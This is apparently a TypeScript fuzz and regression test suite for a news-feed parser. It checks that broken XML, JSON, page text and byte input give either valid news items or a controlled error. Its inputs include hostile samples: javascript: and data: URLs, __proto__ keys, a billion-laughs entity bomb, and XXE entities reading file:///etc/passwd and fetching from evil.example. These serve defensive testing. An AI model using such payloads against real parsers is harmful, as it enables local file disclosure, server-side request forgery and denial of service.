import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { NewsError } from '../model/news-error.js';
import type { NewsFeed } from '../model/news-item.js';
import { MAX_ITEMS } from '../model/news-source.js';
import { parseNews } from './parse-news.js';
import { inlineNews } from './json-feed/inline.js';

const URL_ = 'https://news.example/feed';
const isWeb = (url: unknown): boolean =>
  url === undefined || (typeof url === 'string' && /^https?:\/\//.test(url));

/** What no source may bring into the model, whatever it holds. */
function sound(feed: NewsFeed): void {
  expect([feed.homeUrl, feed.feedUrl, feed.nextUrl].every(isWeb)).toBe(true);
  expect(feed.items.length).toBeLessThanOrEqual(MAX_ITEMS);
  for (const item of feed.items) {
    const addresses = [
      item.url,
      item.image?.url,
      ...(item.image?.srcset ?? []).map(({ url }) => url),
      ...item.attachments.map(({ url }) => url),
      ...item.translations.map(({ url }) => url),
      ...item.authors.flatMap(({ url, avatar }) => [url, avatar]),
    ];
    expect(addresses.filter((url) => !isWeb(url))).toEqual([]);
    expect(typeof item.title.text).toBe('string');
    expect([item.categories, item.tags].flat().every((text) => typeof text === 'string')).toBe(true);
    for (const date of [item.published, item.modified]) {
      if (date) {
        expect(date.iso).toMatch(/^\d{4}(-\d\d(-\d\d(T\d\d:\d\d:\d\dZ)?)?)?$/);
      }
    }
  }
}

/** Reads, and says so if anything but a `NewsError` is thrown. */
function read(text: string | Uint8Array, contentType = ''): NewsFeed | undefined {
  try {
    const feed = parseNews(text, { url: URL_, contentType, fetched: '2026-01-01T00:00:00Z' });
    sound(feed);
    return feed;
  } catch (error) {
    if (!(error instanceof NewsError)) {
      throw error;
    }
    return undefined;
  }
}

const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    'javascript:x',
    ' javascript:x',
    'java\tscript:x',
    'data:text/html,x',
    '//evil.example/x',
    '/x',
    'http://[',
    '\0',
    '\ufffe',
    '&#0;',
    '&lt;script>',
    '<![CDATA[',
    ']]>',
    '-->',
    '&undefined;',
    '2020-13-45',
    'Thu, 32 Jul 2020',
    '__proto__',
    '9'.repeat(400),
    '\u202e',
    '<b',
    '"',
    "'",
  ),
);

const pieces = fc.oneof(
  hostile,
  fc.constantFrom(
    '<item>',
    '</item>',
    '<entry>',
    '</entry>',
    '<title>',
    '</title>',
    '<title type="html">',
    '<title type="xhtml">',
    '<link>',
    '</link>',
    '<link href="',
    '"/>',
    '<description>',
    '</description>',
    '<content:encoded>',
    '</content:encoded>',
    '<pubDate>',
    '</pubDate>',
    '<enclosure url="',
    '<media:group>',
    '<media:content url="',
    '<category term="',
    '<guid>',
    '</guid>',
    '<author>',
    '<name>',
    ' xmlns="x"',
    ' xml:base="',
    ' xml:lang="',
    '<!--',
    '<?x',
    '<!DOCTYPE',
  ),
);

const line = fc.oneof(
  hostile,
  fc.constantFrom(
    '',
    '  ',
    '   A title of an article',
    'On 29 July 2020 somebody said so. And more was said by others later.',
    '** A subtitle',
    'User Feedback',
    'Latest articles',
    '29 July 2020',
    'في ٢٩ يوليو 2020',
    'Rabat: 3 March 2021',
    'yesterday',
    '•',
    'x'.repeat(300),
  ),
);

describe('whatever a source sends', () => {
  it('broken XML of any kind gives sound news or a NewsError', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(
          '<rss><channel>',
          '<feed xmlns="http://www.w3.org/2005/Atom">',
          '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">',
          '<?xml version="1.0" encoding="x-none"?><rss>',
        ),
        fc.array(pieces, { maxLength: 60 }),
        (root, parts) => void read(root + parts.join('')),
      ),
      { numRuns: 400 },
    );
  });

  it('any JSON in the place of any field gives sound news or a NewsError', () => {
    const value = fc.oneof(
      hostile,
      fc.jsonValue({ maxDepth: 3 }),
      fc.constantFrom('https://a.example/x', '2020-07-29T10:00:00Z'),
    );
    const item = fc.dictionary(
      fc.constantFrom(
        'id',
        'url',
        'external_url',
        'title',
        'summary',
        'content_html',
        'content_text',
        'image',
        'date_published',
        'date_modified',
        'authors',
        'tags',
        'language',
        'attachments',
        '_icesco',
        '__proto__',
      ),
      value,
    );
    const post = fc.dictionary(
      fc.constantFrom(
        'id',
        'link',
        'title',
        'excerpt',
        'content',
        'date_gmt',
        'date',
        '_embedded',
        '_links',
        'sticky',
        'lang',
        'categories',
      ),
      fc.oneof(
        value,
        value.map((rendered) => ({ rendered })),
      ),
    );
    const feed = fc.oneof(
      fc.record({
        version: fc.constant('https://jsonfeed.org/version/1.1'),
        title: value,
        items: fc.oneof(value, fc.array(fc.oneof(item, value))),
      }),
      fc.array(fc.oneof(post, value)),
      value,
    );
    fc.assert(
      fc.property(feed, (json) => void read(JSON.stringify(json))),
      { numRuns: 400 },
    );
  });

  it('any value that a page gives is read as news, or refused', () => {
    fc.assert(
      fc.property(
        fc.anything({
          withBigInt: true,
          withDate: true,
          withMap: true,
          withNullPrototype: true,
          withSet: true,
          withTypedArray: true,
          withObjectString: true,
          withSparseArray: true,
          key: fc.constantFrom('items', 'title', 'text', 'url', 'id', 'image', 'feed', 'published'),
        }),
        (value) => {
          try {
            sound(inlineNews(value, { url: URL_ }));
          } catch (error) {
            if (!(error instanceof NewsError)) {
              throw error;
            }
          }
        },
      ),
      { numRuns: 400 },
    );
  });

  it('any page text gives sound news or a NewsError', () => {
    fc.assert(
      fc.property(fc.array(line, { maxLength: 60 }), (lines) => void read(lines.join('\n'))),
      { numRuns: 200 },
    );
  });

  it('any bytes, in any declared encoding, are read or refused', () => {
    const charset = fc.constantFrom(
      'utf-8',
      'utf-16',
      'utf-16le',
      'utf-16be',
      'windows-1256',
      'iso-8859-6',
      'shift_jis',
      'gb18030',
      'utf-7',
      'x-none',
      '',
      'replacement',
      'hz-gb-2312',
    );
    const beginning = fc.constantFrom(
      '',
      '\xef\xbb\xbf',
      '\xff\xfe',
      '\xfe\xff',
      '<rss><channel><title>',
      '{"version":"https://jsonfeed.org/version/1.1","items":[{"title":"',
      '\0<\0r\0s\0s\0>',
    );
    fc.assert(
      fc.property(beginning, fc.uint8Array({ maxLength: 400 }), charset, (head, rest, label) => {
        const bytes = new Uint8Array([...[...head].map((letter) => letter.charCodeAt(0)), ...rest]);
        read(bytes, `text/xml; charset=${label}`);
      }),
      { numRuns: 400 },
    );
  });
});

const rss = (item: string): string => `<rss><channel>${item}</channel></rss>`;

describe('what once broke readers of XML', () => {
  const laughs = (entities: string): string =>
    `<?xml version="1.0"?><!DOCTYPE rss [${entities}]><rss><channel><item><title>&z; &lol9; &x;</title></item></channel></rss>`;

  it('a billion laughs stay one', () => {
    const entities = Array.from(
      { length: 10 },
      (_, index) => `<!ENTITY lol${index} "${index ? `&lol${index - 1};`.repeat(10) : 'lol'}">`,
    ).join('');
    expect(read(laughs(entities))!.items[0]!.title.text.length).toBeLessThan(50);
  });

  it('neither files nor other servers are read for an entity', () => {
    const feed = read(
      laughs(
        '<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY z SYSTEM "https://evil.example/"><!ENTITY % p SYSTEM "https://evil.example/p">%p;',
      ),
    )!;
    expect(feed.items[0]!.title.text).toBe('&z; &lol9; &x;');
  });

  it('depth, number and NUL cost nothing', () => {
    expect(() => read(rss('<item>'.repeat(200_000)))).not.toThrow();
    expect(() => read(rss('<a>'.repeat(200_000)))).not.toThrow();
    expect(() => read(`{"items":${'['.repeat(200_000)}`)).not.toThrow();
    expect(read(rss('<item><title>x</title></item>'.repeat(MAX_ITEMS + 50)))!.items.length).toBe(MAX_ITEMS);
    expect(read(rss('<item><ti\0tle>x</ti\0tle><title>a\0b</title></item>'))?.items.length).toBe(1);
  });
});
